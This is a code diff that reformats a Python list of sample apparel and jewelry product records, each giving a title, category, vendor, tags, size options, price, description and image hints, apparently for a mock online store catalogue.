-         desc=html("Liquid-satin midi skirt in emerald green with knife pleats and an elasticated waist.",
-                   ["100% polyester satin", "Midi length", "Lined"]),
-         care="hand", img=[("skirt", "green")]),
+    dict(
+        title="Men's Slim Fit Stretch Jeans - Dark Wash",
+        cat="Apparel & Accessories > Clothing > Pants > Jeans",
+        product_type="Jeans",
+        vendor="Indigo Supply",
+        tags=["men", "denim", "jeans", "slim fit"],
+        options=[("Waist", ("30", "32", "34", "36")), ("Length", ("30", "32", "34"))],
+        price=79.0,
+        desc=html(
+            "Slim fit jeans cut from stretch denim with a mid-rise waist and a tapered leg. Dark indigo (navy blue) wash.",
+            ["98% cotton, 2% elastane denim", "5-pocket styling", "Zip fly"],
+        ),
+        care="machine",
+        img=[("pants", "denim")],
+    ),
+    dict(
+        title="Women's High-Rise Straight Leg Jeans",
+        cat="Apparel & Accessories > Clothing > Pants > Jeans",
+        product_type="Jeans",
+        vendor="Indigo Supply",
+        tags=["women", "denim", "jeans", "high rise"],
+        options=[("Size", ("24", "25", "26", "27", "28", "29", "30", "31"))],
+        price=88.0,
+        desc=html(
+            "A high-rise, straight leg jean in a light blue vintage wash. Rigid 100% cotton denim that softens with every wear.",
+            ["100% cotton denim", 'High rise: 11"', 'Full length, 30" inseam'],
+        ),
+        care="machine",
+        img=[("pants", "lightblue")],
+    ),
+    dict(
+        title="Men's Slim Chino Pants",
+        cat="Apparel & Accessories > Clothing > Pants > Chinos",
+        product_type="Pants",
+        vendor="Northline Outfitters",
+        tags=["men", "chinos", "workwear"],
+        options=[("Waist", ("30", "32", "34", "36", "38")), ("Color", ("Khaki", "Navy", "Olive"))],
+        price=65.0,
+        desc=html(
+            "Versatile men's chinos in stretch cotton twill with a slim fit and a clean, flat front. Colour shown: khaki (beige).",
+            ["97% cotton, 3% elastane", "Slim fit", "Slant front pockets"],
+        ),
+        care="machine",
+        img=[("pants", "beige"), ("pants", "navy")],
+    ),
+    dict(
+        title="High-Waisted Yoga Leggings with Pockets",
+        cat="Apparel & Accessories > Clothing > Activewear > Activewear Pants > Leggings",
+        product_type="Leggings",
+        vendor="Stride Athletics",
+        tags=["women", "yoga", "leggings", "squat-proof"],
+        options=[("Size", SIZES), ("Color", ("Black", "Deep Navy"))],
+        price=59.0,
+        desc=html(
+            "Buttery-soft, squat-proof leggings with a high-waisted, high-rise band and two side pockets. Full-length, 7/8 available.",
+            ["75% nylon, 25% lycra spandex", "Moisture-wicking, four-way stretch", "Hidden waistband key pocket"],
+        ),
+        care="machine",
+        img=[("pants", "black")],
+    ),
+    dict(
+        title="Men's Tapered Fleece Joggers - Olive",
+        cat="Apparel & Accessories > Clothing > Activewear > Activewear Pants > Joggers",
+        product_type="Joggers",
+        vendor="Stride Athletics",
+        tags=["men", "joggers", "athleisure", "olive green"],
+        options=[("Size", ("S", "M", "L", "XL"))],
+        price=55.0,
+        desc=html(
+            "Tapered men's joggers in midweight fleece with ribbed cuffs, an elastic drawstring waist and zip pockets. Colour: olive green.",
+            ["60% cotton, 40% polyester fleece", "Tapered fit", "Elastic cuffs"],
+        ),
+        care="machine",
+        img=[("pants", "olive")],
+    ),
+    dict(
+        title="Women's Cut-Off Denim Shorts",
+        cat="Apparel & Accessories > Clothing > Shorts > Denim Shorts",
+        product_type="Shorts",
+        vendor="Indigo Supply",
+        tags=["women", "denim", "shorts", "summer"],
+        options=[("Size", ("24", "25", "26", "27", "28", "29", "30"))],
+        price=48.0,
+        desc=html(
+            "Frayed-hem cut-off denim shorts for women, mid-rise with a relaxed fit, in a classic medium blue wash.",
+            ["100% cotton denim", '3" inseam', "Raw hem"],
+        ),
+        care="machine",
+        img=[("shorts", "blue")],
+    ),
+    dict(
+        title="Pleated Satin Midi Skirt - Emerald",
+        cat="Apparel & Accessories > Clothing > Skirts",
+        product_type="Skirts",
+        vendor="Noir Atelier",
+        tags=["women", "skirt", "satin", "green"],
+        options=[("Size", ("XS", "S", "M", "L"))],
+        price=76.0,
+        desc=html(
+            "Liquid-satin midi skirt in emerald green with knife pleats and an elasticated waist.",
+            ["100% polyester satin", "Midi length", "Lined"],
+        ),
+        care="hand",
+        img=[("skirt", "green")],
+    ),
     # ---------------------------------------------------------------- outerwear
-    dict(title="Men's Quilted Puffer Jacket", cat="Apparel & Accessories > Clothing > Outerwear > Coats & Jackets > Puffer Jackets",
-         product_type="Outerwear", vendor="Northline Outfitters", tags=["men", "outerwear", "winter", "puffer", "black"],
-         options=[("Size", ("S", "M", "L", "XL", "XXL")), ("Color", ("Black", "Navy"))], price=149.0,
-         desc=html("Warm without the bulk: recycled synthetic insulation in a water-resistant, windproof shell. Stand collar, long sleeves, two zip hand pockets.",
-                   ["Shell: 100% nylon ripstop with DWR finish", "Insulated, packs into its own pocket", "Men's regular fit"]),
-         care="machine", img=[("jacket", "black"), ("jacket", "navy")]),
-    dict(title="Women's Double-Breasted Trench Coat", cat="Apparel & Accessories > Clothing > Outerwear > Coats & Jackets > Trench Coats",
-         product_type="Coats", vendor="Noir Atelier", tags=["women", "trench", "classic", "beige"],
-         options=[("Size", ("XS", "S", "M", "L"))], price=219.0,
-         desc=html("The iconic trench in water-resistant cotton gabardine: double-breasted, belted, with storm flaps and a wide notch collar. Colour: honey beige.",
-                   ["100% cotton gabardine", "Long sleeves with buckle tabs", "Knee length"]),
-         care="dry", img=[("jacket", "beige")]),
-    dict(title="Kids' Hooded Rain Jacket - Sunshine Yellow", cat="Apparel & Accessories > Clothing > Outerwear > Coats & Jackets > Rain Coats",
-         product_type="Kids Outerwear", vendor="Puddle Jumpers", tags=["kids", "rainwear", "yellow", "waterproof"],
-         options=[("Size", ("4T", "5", "6", "7", "8", "10", "12"))], price=45.0,
-         desc=html("A fully waterproof rain jacket for kids with taped seams, a peaked hood and reflective trim. Bright yellow so they are easy to spot.",
-                   ["100% polyester with PU coating", "Hooded", "Fleece-lined body"]),
-         care="machine", img=[("jacket", "yellow")]),
+    dict(
+        title="Men's Quilted Puffer Jacket",
+        cat="Apparel & Accessories > Clothing > Outerwear > Coats & Jackets > Puffer Jackets",
+        product_type="Outerwear",
+        vendor="Northline Outfitters",
+        tags=["men", "outerwear", "winter", "puffer", "black"],
+        options=[("Size", ("S", "M", "L", "XL", "XXL")), ("Color", ("Black", "Navy"))],
+        price=149.0,
+        desc=html(
+            "Warm without the bulk: recycled synthetic insulation in a water-resistant, windproof shell. Stand collar, long sleeves, two zip hand pockets.",
+            ["Shell: 100% nylon ripstop with DWR finish", "Insulated, packs into its own pocket", "Men's regular fit"],
+        ),
+        care="machine",
+        img=[("jacket", "black"), ("jacket", "navy")],
+    ),
+    dict(
+        title="Women's Double-Breasted Trench Coat",
+        cat="Apparel & Accessories > Clothing > Outerwear > Coats & Jackets > Trench Coats",
+        product_type="Coats",
+        vendor="Noir Atelier",
+        tags=["women", "trench", "classic", "beige"],
+        options=[("Size", ("XS", "S", "M", "L"))],
+        price=219.0,
+        desc=html(
+            "The iconic trench in water-resistant cotton gabardine: double-breasted, belted, with storm flaps and a wide notch collar. Colour: honey beige.",
+            ["100% cotton gabardine", "Long sleeves with buckle tabs", "Knee length"],
+        ),
+        care="dry",
+        img=[("jacket", "beige")],
+    ),
+    dict(
+        title="Kids' Hooded Rain Jacket - Sunshine Yellow",
+        cat="Apparel & Accessories > Clothing > Outerwear > Coats & Jackets > Rain Coats",
+        product_type="Kids Outerwear",
+        vendor="Puddle Jumpers",
+        tags=["kids", "rainwear", "yellow", "waterproof"],
+        options=[("Size", ("4T", "5", "6", "7", "8", "10", "12"))],
+        price=45.0,
+        desc=html(
+            "A fully waterproof rain jacket for kids with taped seams, a peaked hood and reflective trim. Bright yellow so they are easy to spot.",
+            ["100% polyester with PU coating", "Hooded", "Fleece-lined body"],
+        ),
+        care="machine",
+        img=[("jacket", "yellow")],
+    ),
     # ---------------------------------------------------------------- swimwear & socks
-    dict(title="Women's Scoop-Back One-Piece Swimsuit", cat="Apparel & Accessories > Clothing > Swimwear > One-Piece Swimsuits",
-         product_type="Swimwear", vendor="Coastline Swim", tags=["women", "swim", "one-piece", "navy"],
-         options=[("Size", ("XS", "S", "M", "L", "XL")), ("Color", ("Navy",))], price=84.0,
-         desc=html("A sleek women's one-piece swimsuit with a scoop back, moderate coverage and removable cups. Chlorine-resistant, UPF 50+ (UV protection).",
-                   ["82% recycled nylon, 18% lycra", "Fully lined", "Colour: navy"]),
-         care="hand", img=[("swimsuit", "navy")]),
-    dict(title="Men's Quick-Dry Boardshorts 19\"", cat="Apparel & Accessories > Clothing > Swimwear > Boardshorts",
-         product_type="Swimwear", vendor="Coastline Swim", tags=["men", "boardshorts", "surf", "orange"],
-         options=[("Waist", ("30", "32", "34", "36"))], price=55.0,
-         desc=html("Four-way stretch, quick-drying boardshorts for men with a lace-up fly and a zip back pocket. Sunset orange.",
-                   ["100% recycled polyester", "19\" outseam", "Quick drying"]),
-         care="machine", img=[("shorts", "orange")]),
-    dict(title="Cotton Crew Socks 3-Pack", cat="Apparel & Accessories > Clothing > Socks > Crew Socks",
-         product_type="Socks", vendor="Northline Outfitters", tags=["socks", "unisex", "basics", "white"],
-         options=[("Size", ("S/M", "L/XL"))], price=18.0,
-         desc=html("Everyday unisex crew socks in a cushioned cotton blend. Pack of three, white.",
-                   ["80% cotton, 18% nylon, 2% spandex", "Reinforced heel and toe", "Arch support band"]),
-         care="machine", img=[("sock", "white")]),
-    dict(title="Cushioned Running Socks - Ankle", cat="Apparel & Accessories > Clothing > Socks > Athletic Socks",
-         product_type="Socks", vendor="Stride Athletics", tags=["running", "socks", "athletic", "gray"],
-         options=[("Size", ("S", "M", "L"))], price=14.0,
-         desc=html("Targeted cushioning and mesh ventilation zones for long runs. Moisture-wicking, blister-resistant.",
-                   ["Merino wool blend", "Left/right specific fit"]),
-         care="machine", img=[]),
+    dict(
+        title="Women's Scoop-Back One-Piece Swimsuit",
+        cat="Apparel & Accessories > Clothing > Swimwear > One-Piece Swimsuits",
+        product_type="Swimwear",
+        vendor="Coastline Swim",
+        tags=["women", "swim", "one-piece", "navy"],
+        options=[("Size", ("XS", "S", "M", "L", "XL")), ("Color", ("Navy",))],
+        price=84.0,
+        desc=html(
+            "A sleek women's one-piece swimsuit with a scoop back, moderate coverage and removable cups. Chlorine-resistant, UPF 50+ (UV protection).",
+            ["82% recycled nylon, 18% lycra", "Fully lined", "Colour: navy"],
+        ),
+        care="hand",
+        img=[("swimsuit", "navy")],
+    ),
+    dict(
+        title="Men's Quick-Dry Boardshorts 19\"",
+        cat="Apparel & Accessories > Clothing > Swimwear > Boardshorts",
+        product_type="Swimwear",
+        vendor="Coastline Swim",
+        tags=["men", "boardshorts", "surf", "orange"],
+        options=[("Waist", ("30", "32", "34", "36"))],
+        price=55.0,
+        desc=html(
+            "Four-way stretch, quick-drying boardshorts for men with a lace-up fly and a zip back pocket. Sunset orange.",
+            ["100% recycled polyester", '19" outseam', "Quick drying"],
+        ),
+        care="machine",
+        img=[("shorts", "orange")],
+    ),
+    dict(
+        title="Cotton Crew Socks 3-Pack",
+        cat="Apparel & Accessories > Clothing > Socks > Crew Socks",
+        product_type="Socks",
+        vendor="Northline Outfitters",
+        tags=["socks", "unisex", "basics", "white"],
+        options=[("Size", ("S/M", "L/XL"))],
+        price=18.0,
+        desc=html(
+            "Everyday unisex crew socks in a cushioned cotton blend. Pack of three, white.",
+            ["80% cotton, 18% nylon, 2% spandex", "Reinforced heel and toe", "Arch support band"],
+        ),
+        care="machine",
+        img=[("sock", "white")],
+    ),
+    dict(
+        title="Cushioned Running Socks - Ankle",
+        cat="Apparel & Accessories > Clothing > Socks > Athletic Socks",
+        product_type="Socks",
+        vendor="Stride Athletics",
+        tags=["running", "socks", "athletic", "gray"],
+        options=[("Size", ("S", "M", "L"))],
+        price=14.0,
+        desc=html(
+            "Targeted cushioning and mesh ventilation zones for long runs. Moisture-wicking, blister-resistant.",
+            ["Merino wool blend", "Left/right specific fit"],
+        ),
+        care="machine",
+        img=[],
+    ),
     # ---------------------------------------------------------------- shoes
-    dict(title="Women's Low-Top Canvas Sneakers", cat="Apparel & Accessories > Shoes > Sneakers",
-         product_type="Sneakers", vendor="Stride Athletics", tags=["women", "sneakers", "canvas", "white"],
-         options=[("Size", ("6", "6.5", "7", "7.5", "8", "8.5", "9", "10")), ("Color", ("White",))], price=60.0,
-         desc=html("Clean, classic low-top sneakers for women in organic canvas with a vulcanised rubber sole. Lace-up closure, round toe.",
-                   ["Upper: organic cotton canvas", "Sole: natural rubber", "Cushioned insole"]),
-         care=None, img=[("sneaker", "white")]),
-    dict(title="Men's Lightweight Running Shoes", cat="Apparel & Accessories > Shoes > Athletic Shoes",
-         product_type="Running Shoes", vendor="Stride Athletics", tags=["men", "running", "shoes", "blue"],
-         options=[("Size", ("8", "8.5", "9", "9.5", "10", "10.5", "11", "12")), ("Width", ("Regular", "Wide"))], price=120.0,
-         desc=html("A lightweight, breathable men's running shoe with an engineered mesh upper and a responsive cushioned midsole. Cobalt blue.",
-                   ["Breathable mesh upper", "Lace-up", "8 mm heel-to-toe drop"]),
-         care=None, img=[("sneaker", "blue")]),
-    dict(title="Women's Leather Chelsea Boots", cat="Apparel & Accessories > Shoes > Boots",
-         product_type="Boots", vendor="Cobble & Co.", tags=["women", "boots", "leather", "brown"],
-         options=[("Size", ("5", "6", "7", "8", "9", "10"))], price=185.0,
-         desc=html("Timeless Chelsea boots for women in full-grain leather with elastic side gores and a low stacked heel. Chestnut brown.",
-                   ["Full-grain leather upper", "Slip-on with pull tab", "Rubber lug sole"]),
-         care="wipe", img=[("boot", "brown")]),
-    dict(title="Men's Waterproof Hiking Boots", cat="Apparel & Accessories > Shoes > Boots",
-         product_type="Hiking Boots", vendor="Northline Outfitters", tags=["men", "hiking", "waterproof", "boots"],
-         options=[("Size", ("8", "9", "10", "11", "12", "13"))], price=165.0,
-         desc=html("Mid-height men's hiking boots with a waterproof membrane, suede and mesh upper and grippy Vibram outsole.",
-                   ["Waterproof, breathable", "Lace-up", "Tan / brown"]),
-         care="wipe", img=[("boot", "tan")]),
-    dict(title="Pointed-Toe Stiletto Pumps - Cherry Red", cat="Apparel & Accessories > Shoes > Heels",
-         product_type="Heels", vendor="Cobble & Co.", tags=["women", "heels", "pumps", "red", "party"],
-         options=[("Size", ("5", "6", "7", "8", "9"))], price=130.0,
-         desc=html("Patent faux-leather stiletto pumps for women with a pointed toe and a 4\" heel. Cherry red.",
-                   ["Faux leather upper", "Very high heel: 4 in", "Padded footbed"]),
-         care="wipe", img=[("heel", "red")]),
+    dict(
+        title="Women's Low-Top Canvas Sneakers",
+        cat="Apparel & Accessories > Shoes > Sneakers",
+        product_type="Sneakers",
+        vendor="Stride Athletics",
+        tags=["women", "sneakers", "canvas", "white"],
+        options=[("Size", ("6", "6.5", "7", "7.5", "8", "8.5", "9", "10")), ("Color", ("White",))],
+        price=60.0,
+        desc=html(
+            "Clean, classic low-top sneakers for women in organic canvas with a vulcanised rubber sole. Lace-up closure, round toe.",
+            ["Upper: organic cotton canvas", "Sole: natural rubber", "Cushioned insole"],
+        ),
+        care=None,
+        img=[("sneaker", "white")],
+    ),
+    dict(
+        title="Men's Lightweight Running Shoes",
+        cat="Apparel & Accessories > Shoes > Athletic Shoes",
+        product_type="Running Shoes",
+        vendor="Stride Athletics",
+        tags=["men", "running", "shoes", "blue"],
+        options=[("Size", ("8", "8.5", "9", "9.5", "10", "10.5", "11", "12")), ("Width", ("Regular", "Wide"))],
+        price=120.0,
+        desc=html(
+            "A lightweight, breathable men's running shoe with an engineered mesh upper and a responsive cushioned midsole. Cobalt blue.",
+            ["Breathable mesh upper", "Lace-up", "8 mm heel-to-toe drop"],
+        ),
+        care=None,
+        img=[("sneaker", "blue")],
+    ),
+    dict(
+        title="Women's Leather Chelsea Boots",
+        cat="Apparel & Accessories > Shoes > Boots",
+        product_type="Boots",
+        vendor="Cobble & Co.",
+        tags=["women", "boots", "leather", "brown"],
+        options=[("Size", ("5", "6", "7", "8", "9", "10"))],
+        price=185.0,
+        desc=html(
+            "Timeless Chelsea boots for women in full-grain leather with elastic side gores and a low stacked heel. Chestnut brown.",
+            ["Full-grain leather upper", "Slip-on with pull tab", "Rubber lug sole"],
+        ),
+        care="wipe",
+        img=[("boot", "brown")],
+    ),
+    dict(
+        title="Men's Waterproof Hiking Boots",
+        cat="Apparel & Accessories > Shoes > Boots",
+        product_type="Hiking Boots",
+        vendor="Northline Outfitters",
+        tags=["men", "hiking", "waterproof", "boots"],
+        options=[("Size", ("8", "9", "10", "11", "12", "13"))],
+        price=165.0,
+        desc=html(
+            "Mid-height men's hiking boots with a waterproof membrane, suede and mesh upper and grippy Vibram outsole.",
+            ["Waterproof, breathable", "Lace-up", "Tan / brown"],
+        ),
+        care="wipe",
+        img=[("boot", "tan")],
+    ),
+    dict(
+        title="Pointed-Toe Stiletto Pumps - Cherry Red",
+        cat="Apparel & Accessories > Shoes > Heels",
+        product_type="Heels",
+        vendor="Cobble & Co.",
+        tags=["women", "heels", "pumps", "red", "party"],
+        options=[("Size", ("5", "6", "7", "8", "9"))],
+        price=130.0,
+        desc=html(
+            'Patent faux-leather stiletto pumps for women with a pointed toe and a 4" heel. Cherry red.',
+            ["Faux leather upper", "Very high heel: 4 in", "Padded footbed"],
+        ),
+        care="wipe",
+        img=[("heel", "red")],
+    ),
     # ---------------------------------------------------------------- jewelry & watches
-    dict(title="14K Gold Diamond Solitaire Engagement Ring", cat="Apparel & Accessories > Jewelry > Rings",
-         product_type="Rings", vendor="Luma Jewelry Co.", tags=["fine jewelry", "engagement", "diamond", "gold"],
-         options=[("Ring Size", ("5", "5.5", "6", "6.5", "7", "7.5", "8"))], price=1490.0,
-         desc=html("A 0.5 ct round brilliant diamond in a classic four-prong setting on a solid 14K yellow gold band. Fine jewelry, made for her.",
-                   ["Solid 14K gold", "Lab-grown diamond, VS1, G colour", "Comes in a gift box"]),
-         care=None, img=[("ring", "gold")]),
-    dict(title="Sterling Silver Stackable Band Rings, Set of 3", cat="Apparel & Accessories > Jewelry > Rings",
-         product_type="Rings", vendor="Luma Jewelry Co.", tags=["silver", "stacking rings", "minimalist"],
-         options=[("Ring Size", ("5", "6", "7", "8", "9"))], price=49.0,
-         desc=html("Three slim 925 sterling silver bands: one polished, one hammered, one twisted. Wear together or apart.",
-                   ["925 sterling silver", "1.5 mm band width", "Nickel-free, hypoallergenic"]),
-         care=None, img=[("band_ring", "silver")]),
-    dict(title="Rose Gold Heart Pendant Necklace", cat="Apparel & Accessories > Jewelry > Necklaces",
-         product_type="Necklaces", vendor="Luma Jewelry Co.", tags=["necklace", "rose gold", "gift for her", "heart"],
-         options=[("Length", ("16\"", "18\""))], price=39.0,
-         desc=html("A dainty heart pendant on a fine cable chain, finished in 18K rose gold plating over brass.",
-                   ["Rose gold plated brass", "Lobster clasp", "Imitation jewelry; tarnish-resistant coating"]),
-         care=None, img=[("necklace", "rosegold")]),
-    dict(title="Freshwater Pearl Strand Necklace", cat="Apparel & Accessories > Jewelry > Necklaces",
-         product_type="Necklaces", vendor="Luma Jewelry Co.", tags=["pearls", "bridal", "classic"],
-         options=[], price=129.0,
-         desc=html("Hand-knotted 7&ndash;8 mm white freshwater pearls with a sterling silver clasp. A wedding-day classic.",
-                   ["Genuine freshwater pearls", "18\" princess length"]),
-         care=None, img=[("pearls", "white")]),
-    dict(title="Gold Hoop Earrings - Medium", cat="Apparel & Accessories > Jewelry > Earrings",
-         product_type="Earrings", vendor="Luma Jewelry Co.", tags=["earrings", "hoops", "gold", "everyday"],
-         options=[("Size", ("Small", "Medium", "Large"))], price=45.0,
-         desc=html("Lightweight tube hoops in 14K gold vermeil (gold over sterling silver). 30 mm diameter.",
-                   ["Gold vermeil", "Hinged snap closure", "Hypoallergenic"]),
-         care=None, img=[("hoops", "gold")]),
-    dict(title="Sterling Silver Teardrop Earrings", cat="Apparel & Accessories > Jewelry > Earrings",
-         product_type="Earrings", vendor="Luma Jewelry Co.", tags=["earrings", "silver", "drop earrings"],
-         options=[], price=35.0,
-         desc=html("Polished teardrop dangles on French wire hooks in 925 sterling silver. For women.",
-                   ["925 sterling silver", "Drop length 1.2\""]),
-         care=None, img=[("drops", "silver"), ("drops", "gold")]),
-    dict(title="Men's Chronograph Watch with Leather Strap", cat="Apparel & Accessories > Jewelry > Watches",
-         product_type="Watches", vendor="Meridian Time", tags=["men", "watch", "chronograph", "leather"],
-         options=[], price=189.0,
-         desc=html("A 42 mm stainless steel chronograph for men with a white dial, analog display and a brown Italian leather strap.",
-                   ["Japanese quartz movement", "Stainless steel case", "Water resistant to 50 m"]),
-         care=None, img=[("watch", "brown")]),
-    dict(title="Fitness Smart Watch with Heart Rate Monitor", cat="Apparel & Accessories > Jewelry > Smart Watches",
-         product_type="Smart Watch", vendor="Pulse Wearables", tags=["smartwatch", "fitness tracker", "black", "gps"],
-         options=[("Color", ("Black", "Rose Gold"))], price=149.0,
-         desc=html("Track workouts, heart rate, sleep and SpO2 on a bright AMOLED touchscreen. Built-in GPS, 7-day battery.",
-                   ["1.4\" AMOLED touchscreen", "Heart rate and sleep tracking", "Silicone band, water resistant 5 ATM"]),
-         care=None, img=[("smartwatch", "black")]),
+    dict(
+        title="14K Gold Diamond Solitaire Engagement Ring",
+        cat="Apparel & Accessories > Jewelry > Rings",
+        product_type="Rings",
+        vendor="Luma Jewelry Co.",
+        tags=["fine jewelry", "engagement", "diamond", "gold"],
+        options=[("Ring Size", ("5", "5.5", "6", "6.5", "7", "7.5", "8"))],
+        price=1490.0,
+        desc=html(
+            "A 0.5 ct round brilliant diamond in a classic four-prong setting on a solid 14K yellow gold band. Fine jewelry, made for her.",
+            ["Solid 14K gold", "Lab-grown diamond, VS1, G colour", "Comes in a gift box"],
+        ),
+        care=None,
+        img=[("ring", "gold")],
+    ),
+    dict(
+        title="Sterling Silver Stackable Band Rings, Set of 3",
+        cat="Apparel & Accessories > Jewelry > Rings",
+        product_type="Rings",
+        vendor="Luma Jewelry Co.",
+        tags=["silver", "stacking rings", "minimalist"],
+        options=[("Ring Size", ("5", "6", "7", "8", "9"))],
+        price=49.0,
+        desc=html(
+            "Three slim 925 sterling silver bands: one polished, one hammered, one twisted. Wear together or apart.",
+            ["925 sterling silver", "1.5 mm band width", "Nickel-free, hypoallergenic"],
+        ),
+        care=None,
+        img=[("band_ring", "silver")],
+    ),
+    dict(
+        title="Rose Gold Heart Pendant Necklace",
+        cat="Apparel & Accessories > Jewelry > Necklaces",
+        product_type="Necklaces",
+        vendor="Luma Jewelry Co.",
+        tags=["necklace", "rose gold", "gift for her", "heart"],
+        options=[("Length", ('16"', '18"'))],
+        price=39.0,
+        desc=html(
+            "A dainty heart pendant on a fine cable chain, finished in 18K rose gold plating over brass.",
+            ["Rose gold plated brass", "Lobster clasp", "Imitation jewelry; tarnish-resistant coating"],
+        ),
+        care=None,
+        img=[("necklace", "rosegold")],
+    ),
+    dict(
+        title="Freshwater Pearl Strand Necklace",
+        cat="Apparel & Accessories > Jewelry > Necklaces",
+        product_type="Necklaces",
+        vendor="Luma Jewelry Co.",
+        tags=["pearls", "bridal", "classic"],
+        options=[],
+        price=129.0,
+        desc=html(
+            "Hand-knotted 7&ndash;8 mm white freshwater pearls with a sterling silver clasp. A wedding-day classic.",
+            ["Genuine freshwater pearls", '18" princess length'],
+        ),
+        care=None,
+        img=[("pearls", "white")],
+    ),
+    dict(
+        title="Gold Hoop Earrings - Medium",
+        cat="Apparel & Accessories > Jewelry > Earrings",
+        product_type="Earrings",
+        vendor="Luma Jewelry Co.",
+        tags=["earrings", "hoops", "gold", "everyday"],
+        options=[("Size", ("Small", "Medium", "Large"))],
+        price=45.0,
+        desc=html(
+            "Lightweight tube hoops in 14K gold vermeil (gold over sterling silver). 30 mm diameter.",
+            ["Gold vermeil", "Hinged snap closure", "Hypoallergenic"],
+        ),
+        care=None,
+        img=[("hoops", "gold")],
+    ),
+    dict(
+        title="Sterling Silver Teardrop Earrings",
+        cat="Apparel & Accessories > Jewelry > Earrings",
+        product_type="Earrings",
+        vendor="Luma Jewelry Co.",
+        tags=["earrings", "silver", "drop earrings"],
+        options=[],
+        price=35.0,
+        desc=html(
+            "Polished teardrop dangles on French wire hooks in 925 sterling silver. For women.",
+            ["925 sterling silver", 'Drop length 1.2"'],
+        ),
+        care=None,
+        img=[("drops", "silver"), ("drops", "gold")],
+    ),
+    dict(
+        title="Men's Chronograph Watch with Leather Strap",
+        cat="Apparel & Accessories > Jewelry > Watches",
+        product_type="Watches",
+        vendor="Meridian Time",
+        tags=["men", "watch", "chronograph", "leather"],
+        options=[],
+        price=189.0,
+        desc=html(
+            "A 42 mm stainless steel chronograph for men with a white dial, analog display and a brown Italian leather strap.",
+            ["Japanese quartz movement", "Stainless steel case", "Water resistant to 50 m"],
+        ),
+        care=None,
+        img=[("watch", "brown")],
+    ),
+    dict(
+        title="Fitness Smart Watch with Heart Rate Monitor",
+        cat="Apparel & Accessories > Jewelry > Smart Watches",
+        product_type="Smart Watch",
+        vendor="Pulse Wearables",
+        tags=["smartwatch", "fitness tracker", "black", "gps"],
+        options=[("Color", ("Black", "Rose Gold"))],
+        price=149.0,
+        desc=html(
+            "Track workouts, heart rate, sleep and SpO2 on a bright AMOLED touchscreen. Built-in GPS, 7-day battery.",
+            ['1.4" AMOLED touchscreen', "Heart rate and sleep tracking", "Silicone band, water resistant 5 ATM"],
+        ),
+        care=None,
+        img=[("smartwatch", "black")],
+    ),
     # ---------------------------------------------------------------- accessories
-    dict(title="Classic Cotton Baseball Cap", cat="Apparel & Accessories > Clothing Accessories > Hats > Baseball Caps",
-         product_type="Hats", vendor="Northline Outfitters", tags=["cap", "unisex", "navy", "adjustable"],
-         options=[("Color", ("Navy", "Black", "Khaki"))], price=25.0,
-         desc=html("An unstructured six-panel baseball cap in washed cotton twill with an adjustable strap back. One size fits most.",
-                   ["100% cotton twill", "Curved brim", "Adjustable brass buckle"]),
-         care="hand", img=[("cap", "navy")]),
-    dict(title="Chunky Knit Beanie with Faux Fur Pom", cat="Apparel & Accessories > Clothing Accessories > Hats > Beanies",
-         product_type="Hats", vendor="Maple & Thread", tags=["beanie", "winter", "women", "burgundy"],
-         options=[("Color", ("Burgundy", "Cream", "Charcoal"))], price=32.0,
-         desc=html("A thick cable-knit beanie with a fold-over cuff and a removable faux-fur pom. Colour shown: burgundy.",
-                   ["100% acrylic knit", "Fleece-lined band", "One size"]),
-         care="hand", img=[("beanie", "burgundy")]),
-    dict(title="Cashmere Blend Plaid Scarf", cat="Apparel & Accessories > Clothing Accessories > Scarves & Shawls",
-         product_type="Scarves", vendor="Highland Mill", tags=["scarf", "plaid", "winter", "gray", "unisex"],
-         options=[], price=75.0,
-         desc=html("Soft, warm and generously sized (70\" x 12\"). A gray and charcoal plaid in a cashmere-wool blend, finished with fringed ends.",
-                   ["30% cashmere, 70% wool", "Woven in Scotland"]),
-         care="dry", img=[("scarf", "gray", "plaid")]),
-    dict(title="Vegan Leather Crossbody Bag", cat="Apparel & Accessories > Handbags, Wallets & Cases > Handbags > Cross Body Bags",
-         product_type="Bags", vendor="Roam Travel Goods", tags=["bags", "crossbody", "vegan", "black"],
-         options=[("Color", ("Black", "Cognac"))], price=68.0,
-         desc=html("A compact women's crossbody bag in vegan (faux) leather with an adjustable strap, magnetic flap closure and card slots inside.",
-                   ["Faux leather (PU)", "Adjustable strap, 22&ndash;40\" drop", "Magnetic closure"]),
-         care="wipe", img=[("crossbody", "black")]),
-    dict(title="Suede Slouchy Hobo Bag", cat="Apparel & Accessories > Handbags, Wallets & Cases > Handbags > Hobo Bags",
-         product_type="Handbags", vendor="Roam Travel Goods", tags=["hobo", "suede", "brown", "handbag"],
-         options=[], price=165.0,
-         desc=html("Soft, unstructured hobo shoulder bag in genuine suede with a single shoulder strap and zip top.",
-                   ["Genuine suede", "Cotton twill lining", "Zip closure"]),
-         care="wipe", img=[("handbag", "tan")]),
-    dict(title="Men's Slim Leather Bifold Wallet", cat="Apparel & Accessories > Handbags, Wallets & Cases > Wallets & Money Clips > Wallets",
-         product_type="Wallets", vendor="Cobble & Co.", tags=["men", "wallet", "leather", "rfid"],
-         options=[("Color", ("Black", "Brown"))], price=45.0,
-         desc=html("A slim men's bifold in full-grain leather with RFID blocking and six card slots.",
-                   ["Full-grain leather", "RFID blocking", "Gift boxed"]),
-         care="wipe", img=[("wallet", "black")]),
-    dict(title="Polarized Aviator Sunglasses", cat="Apparel & Accessories > Clothing Accessories > Sunglasses",
-         product_type="Sunglasses", vendor="Meridian Time", tags=["sunglasses", "aviator", "unisex", "gold"],
-         options=[], price=95.0,
-         desc=html("Classic unisex aviators with a gold metal frame and polarized gray lenses. 100% UV400 protection.",
-                   ["Metal frame", "Polarized lenses", "Includes hard case"]),
-         care=None, img=[("sunglasses", "gold")]),
-    dict(title="Men's Reversible Leather Belt", cat="Apparel & Accessories > Clothing Accessories > Belts",
-         product_type="Belts", vendor="Cobble & Co.", tags=["men", "belt", "leather", "reversible"],
-         options=[("Size", ("32", "34", "36", "38", "40"))], price=55.0,
-         desc="Reversible men's dress belt: black on one side, brown on the other. Full-grain leather, rotating silver-tone buckle.",
-         care="wipe", img=[("belt", "black")]),
+    dict(
+        title="Classic Cotton Baseball Cap",
+        cat="Apparel & Accessories > Clothing Accessories > Hats > Baseball Caps",
+        product_type="Hats",
+        vendor="Northline Outfitters",
+        tags=["cap", "unisex", "navy", "adjustable"],
+        options=[("Color", ("Navy", "Black", "Khaki"))],
+        price=25.0,
+        desc=html(
+            "An unstructured six-panel baseball cap in washed cotton twill with an adjustable strap back. One size fits most.",
+            ["100% cotton twill", "Curved brim", "Adjustable brass buckle"],
+        ),
+        care="hand",
+        img=[("cap", "navy")],
+    ),
